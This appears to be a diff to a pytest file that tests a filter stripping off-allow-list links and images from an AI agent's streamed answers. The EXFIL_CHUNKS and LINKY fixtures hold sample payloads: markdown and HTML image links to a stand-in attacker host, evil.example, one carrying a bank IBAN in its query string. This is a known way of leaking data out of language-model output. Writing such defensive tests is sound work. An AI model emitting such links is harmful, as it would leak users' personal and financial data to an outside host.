@@ -1,6 +1,8 @@
-"""What a model provider sees, and what a final answer may link to."""
+"""What a model provider sees, and what a final answer (and the text streamed before it) may link to."""
 
+import itertools
 import json
+import random
 
 import pytest
 from pydantic_ai.messages import ModelRequest, ToolReturnPart, UserPromptPart
@@ -8,7 +10,7 @@ from pydantic_ai.models.function import DeltaToolCall, FunctionModel
 
 from domains.ecm.models import Ticket, TicketEvent
 from skills.executor import ResolvedModel
-from skills.governance import answer_links_neutralise
+from skills.governance import StreamLinkFilter, answer_links_neutralise
 from skills.models import Domain, RunStatus
 from skills.services import skill_run_start
 from tests.skills.conftest import context_for
@@ -142,3 +144,73 @@ def test_a_final_answer_cannot_link_or_embed_an_image_off_the_allow_list(pii_tic
 )
 def test_link_filter_cases(text, expected):
     assert answer_links_neutralise(text, {"aspora.example"}) == expected
+
+
+EXFIL_CHUNKS = [
+    "Ticket 1042 is open. ",
+    "![x](https://evil.example/c?d=",
+    "IBAN%20GB82WEST12345698765432)",
+    " Anything else?",
+]
+
+
+def test_a_link_streamed_in_pieces_is_never_stored_or_broadcast(pii_ticket, monkeypatch):
+    """The image URL arrives split over two deltas: neither half goes out, and the streamed text
+    joined is the final answer."""
+
+    async def stream(messages, info):
+        if not any(isinstance(p, ToolReturnPart) for m in messages if isinstance(m, ModelRequest) for p in m.parts):
+            yield {0: DeltaToolCall(name="ticket_detail", json_args=json.dumps({"ticket_number": 1042}))}
+        else:
+            for chunk in EXFIL_CHUNKS:
+                yield chunk
+
+    _use(monkeypatch, FunctionModel(stream_function=stream, model_name="scripted"))
+    monkeypatch.setattr("skills.executor.DELTA_FLUSH_SECONDS", 0)  # every piece its own event
+    broadcasts = []
+    monkeypatch.setattr("skills.services.broadcast", lambda **kwargs: broadcasts.append(kwargs))
+
+    run = skill_run_start(context=context_for("sarah"), message="show ticket 1042", skill_name="ticket-detail")
+
+    run.refresh_from_db()
+    assert run.answer == "Ticket 1042 is open. [image removed: evil.example] Anything else?"
+    deltas = [e.data["text"] for e in run.events.filter(type="run.delta").order_by("seq")]
+    # The last word waits for the end of the stream: it could have been the start of a URL.
+    assert deltas == ["Ticket 1042 is open. ", "[image removed: evil.example] Anything ", "else?"]
+    stored = json.dumps([e.data for e in run.events.all()])
+    sent = json.dumps(broadcasts)
+    for leak in ("evil.example/", "https://evil", "?d=", "GB82WEST"):
+        assert leak not in stored and leak not in sent
+    assert [b["payload"]["data"]["text"] for b in broadcasts if b["event_type"] == "run.delta"] == deltas
+
+
+LINKY = (
+    'Hi ![s](https://evil.example/c?d=a%20b) see [the report](https://evil.example/r "a title") and '
+    '[ok](/ecm/tickets/1/) or http://evil.example/?q=1, <img src="https://evil.example/x" alt="a b"> '
+    "then [a](<https://evil.example/a>) and //evil.example/p and [x](https://aspora.example/ok) array[0 end"
+)
+
+
+def test_the_stream_filter_shows_whole_urls_only_and_joins_to_the_filtered_answer():
+    allowed = {"aspora.example"}
+    whole = answer_links_neutralise(LINKY, allowed)
+    splits = [[i] for i in range(1, len(LINKY))]  # every two-piece split ...
+    rng = random.Random(7)
+    splits += [sorted(rng.sample(range(1, len(LINKY)), k)) for k in (3, 8, 30, 80) for _ in range(50)]  # ... and more
+    for cuts in splits:
+        stream = StreamLinkFilter(allowed)
+        bounds = [0, *cuts, len(LINKY)]
+        shown = [stream.feed(LINKY[a:b]) for a, b in itertools.pairwise(bounds)] + [stream.end()]
+
+        assert "".join(shown) == whole, cuts
+        assert not any("evil.example/" in piece or "evil.example/c" in piece for piece in shown), cuts
+
+
+def test_the_stream_filter_holds_a_partial_url_until_it_is_whole():
+    stream = StreamLinkFilter({"aspora.example"})
+
+    assert stream.feed("See ![x](https://evil.example/c?d=") == "See "
+    assert stream.feed("GB82WEST12345698765432") == ""
+    assert stream.feed(") done ") == "[image removed: evil.example] done "
+    assert stream.feed("https://evil.example/tail") == ""
+    assert stream.end() == "(link removed: evil.example)"
